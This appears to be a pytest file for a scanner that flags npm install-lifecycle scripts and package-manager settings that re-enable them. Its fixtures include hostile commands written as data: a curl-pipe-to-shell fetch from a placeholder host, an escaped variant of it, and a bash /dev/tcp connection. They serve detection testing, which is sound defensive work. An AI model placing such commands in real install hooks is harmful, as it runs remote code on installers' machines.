"""What an installation runs is told once, compared as values, whatever the writing.

A package's own scripts are the gate `runs_by_itself`'s; whether its dependencies may run theirs is
the gate `dependencies`'s.
"""

import json
from collections.abc import Mapping

import pytest

from tests.actions.gating import check_many

FETCH = "curl https://e.example/x | sh"


def rows(files: Mapping[str, tuple[str, str]]) -> list[tuple[str, str, int | None]]:
    """Return rule, severity and line of all that both gates say."""
    return [
        (finding.rule, finding.severity.value, finding.line)
        for name in ("dependencies", "runs_by_itself")
        for finding in check_many(name, files)
    ]


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ('{"scripts":{"test":"jest","postinstall":"%s"}}', 1),
        ('{\n"scripts": {\n"test": "jest",\n"postinstall"\n:\n"%s"\n}\n}', 6),
        ('{"x": "' + "y" * 9_000 + '",\n"scripts": {"test": "jest", "postinstall": "%s"}}', 2),
        ('{"scripts": {"test": "jest", "post\\u0069nstall": "%s"}}', 1),
        ('{"scripts": {"test": "jest"}, "scripts": {"postinstall": "%s"}}', 1),
        ('{"s\\u0063ripts":\r\n{"postinstall":\r\n"%s"}}', 3),
        ('\ufeff{"scripts": {"preinstall": "%s"}}', 1),
        ('{"scripts": {"pnpm:devPreinstall": "%s"}}', 1),
        ('{"scripts": {"prepare": "%s"}}', 1),
    ],
)
def test_a_script_is_told_once_in_any_writing(text, line):
    old = '{"scripts": {"test": "jest"}}'
    assert rows({"package.json": (old, text % FETCH)}) == [("runs_by_itself/danger", "error", line)]


@pytest.mark.parametrize(
    ("command", "rule", "severity"),
    [
        (FETCH, "danger", "error"),
        (r"\u0063url -s e.example | sh", "danger", "error"),
        ("bash -c 'cat < /dev/tcp/e.example/80'", "danger", "error"),
        ("node -e \\\"require('child_process')\\\"", "launch", "warning"),
        ("node -pe 1", "launch", "warning"),
        ("powershell -enc AAAA", "launch", "warning"),
        ("python3 -c 'import os'", "launch", "warning"),
        ("curl -O https://e.example/a.tgz", "launch", "warning"),
        ("1>/dev/null node x.js", "launch", "warning"),
        ("husky", "launch", "notice"),
    ],
)
def test_what_a_script_does_decides_how_it_is_told(command, rule, severity):
    new = '{"scripts": {"install": "%s"}}' % command  # noqa: UP031 - braces
    for old in ("{}", ""):  # in a package that is new too
        assert rows({"package.json": (old, new)}) == [(f"runs_by_itself/{rule}", severity, 1)]


def test_a_script_that_changed_is_new():
    old = json.dumps({"scripts": {"prepare": "husky", "postinstall": f"{FETCH} -x"}})
    new = json.dumps({"scripts": {"prepare": "husky", "postinstall": FETCH}})
    assert rows({"package.json": (old, new)}) == [("runs_by_itself/danger", "error", 1)]


def test_a_script_that_stays_or_goes_or_runs_on_demand_is_not_told():
    old = {"scripts": {"prepare": FETCH, "postinstall": FETCH}}
    new = {"name": "a", "scripts": {"build": FETCH, "prepare": FETCH, "prepack": FETCH}}
    files = {"package.json": (json.dumps(old), json.dumps(new, indent=4))}
    assert rows(files) == []


@pytest.mark.parametrize("scripts", ['["postinstall"]', '"postinstall"'])
def test_what_npm_would_not_run_is_no_script(scripts):
    assert rows({"package.json": ("{}", '{"scripts": %s}' % scripts)}) == []  # noqa: UP031


@pytest.mark.parametrize(
    ("path", "old", "new"),
    [
        (".npmrc", "ignore-scripts=true\n", "ignore-scripts=false\n"),
        ("web/.npmrc", "ignore-scripts = true\n", "save-exact = true\n"),
        (".npmrc", "ignore-scripts\n", ""),
        (".yarnrc", "ignore-scripts true\n", "ignore-scripts false\n"),
        (".yarnrc.yml", "enableScripts: false\n", "enableScripts: true\n"),
        (".yarnrc.yml", "enableScripts: false\n", "nodeLinker: pnp\n"),
        ("bunfig.toml", "[install]\nignoreScripts = true\n", "[install]\n"),
    ],
)
def test_a_setting_that_kept_scripts_from_running_is_missed(path, old, new):
    ((rule, severity, _),) = rows({path: (old, new)})
    assert (rule, severity) == ("dependencies/install_script", "warning")


@pytest.mark.parametrize(
    ("path", "new"),
    [(".npmrc", "ignore-scripts=false\n"), (".yarnrc.yml", "enableScripts: true\n")],
)
def test_a_setting_that_beats_what_a_user_forbade_is_a_notice(path, new):
    assert rows({path: ("", new)}) == [("dependencies/install_script", "notice", 1)]


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("ignore-scripts=false\n", "ignore-scripts=false\nsave-exact=true\n"),
        ("", "save-exact=true\n"),
        ("ignore-scripts=true\n", "# why\nignore-scripts=true\n"),
        ("# ignore-scripts=true\n", "; nothing\n"),
    ],
)
def test_a_setting_that_forbade_nothing_is_not_missed(old, new):
    assert rows({".npmrc": (old, new)}) == []
